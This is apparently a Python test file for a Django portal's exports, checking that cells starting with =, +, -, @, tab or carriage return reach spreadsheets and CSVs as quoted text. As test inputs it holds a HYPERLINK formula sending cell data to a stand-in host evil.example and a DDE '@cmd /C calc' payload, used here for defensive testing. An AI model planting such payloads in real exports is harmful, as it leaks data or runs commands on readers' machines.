"""Exports that never attack their reader: a cell beginning with =, +, -, @, a tab or a carriage return
reaches the spreadsheet as text (OWASP CSV injection), in every export, through cme_portal/exports.py."""

import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from cme_portal.accounts.models import Role, User
from cme_portal.exports import csv_response, restore_cell, safe_cell
from projects.imports import import_projects
from projects.models import Project

from .factories import staff
from .test_compliance import YEAR, exported, people  # noqa: F401  (fixture)
from .test_rosters import held  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点击")'
ATTACKS = [FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def cells(response):
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [cell for row in book.active.iter_rows() for cell in row]


def assert_inert(response, planted):
    assert response["Cache-Control"].startswith("no-store")
    found = [cell for cell in cells(response) if isinstance(cell.value, str) and cell.value.lstrip("'") in planted]
    assert {cell.value[1:] for cell in found} == set(planted), [c.value for c in cells(response)]
    for cell in found:
        assert cell.data_type == "s" and cell.value.startswith("'"), cell.value
    assert not [cell for cell in cells(response) if cell.data_type == "f"]


@pytest.mark.parametrize("value", ATTACKS)
def test_safe_cell_quotes_formula_starts_and_restore_takes_the_quote_off(value):
    assert safe_cell(value) == "'" + value
    assert restore_cell(safe_cell(value)) == value


@pytest.mark.parametrize("value", ["张三", "2026-03-05-129（国）", "'引号开头", 5, -3.5, None, "a=b"])
def test_safe_cell_keeps_everything_else(value):
    assert safe_cell(value) == value
    assert restore_cell(value) == value


def test_roster_export_writes_names_as_text(client, cast, held):  # noqa: F811
    session, people_ = held
    for person, name in zip(people_, ATTACKS[:4]):
        User.objects.filter(pk=person.pk).update(name=name)
    client.force_login(cast["organiser"])

    assert_inert(client.get(reverse("attendance:roster_export", args=[session.pk])), ATTACKS[:4])


def test_compliance_export_writes_names_and_units_as_text(client, tree, people, django_capture_on_commit_callbacks):  # noqa: F811
    User.objects.filter(pk=people["ok"].pk).update(name=FORMULA)
    tree["unit_a2"].name = "@cmd|' /C calc'!A0"
    tree["unit_a2"].save()
    client.force_login(staff(Role.CITY_ADMIN, tree["city_a"]))

    assert_inert(exported(client, {"year": YEAR}, django_capture_on_commit_callbacks), [FORMULA, "@cmd|' /C calc'!A0"])


def test_catalogue_export_writes_names_as_text_and_reimports_the_same(client, tree):
    import_projects("fixtures/remote_filed_2021.xlsx", entry="remote_filed")
    first, second = Project.objects.order_by("pk")[:2]
    Project.objects.filter(pk=first.pk).update(name=FORMULA)
    Project.objects.filter(pk=second.pk).update(leader="-王五")
    client.force_login(staff(Role.PROVINCE_ADMIN, tree["province"]))

    response = client.get(reverse("projects:project_export"), {"entry": "remote_filed"})

    assert_inert(response, [FORMULA, "-王五"])
    before = sorted(Project.objects.values_list("number_key", "name", "leader"))
    assert import_projects(SimpleUploadedFile("export.xlsx", response.content), entry="remote_filed") == 28
    assert sorted(Project.objects.values_list("number_key", "name", "leader")) == before


def test_csv_exports_are_quoted_too():
    response = csv_response(filename="x.csv", headers=["姓名"], rows=[[FORMULA], ["王五"], [-1]])
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[1].startswith("\"'=HYPERLINK") and lines[2] == "王五" and lines[3] == "-1"
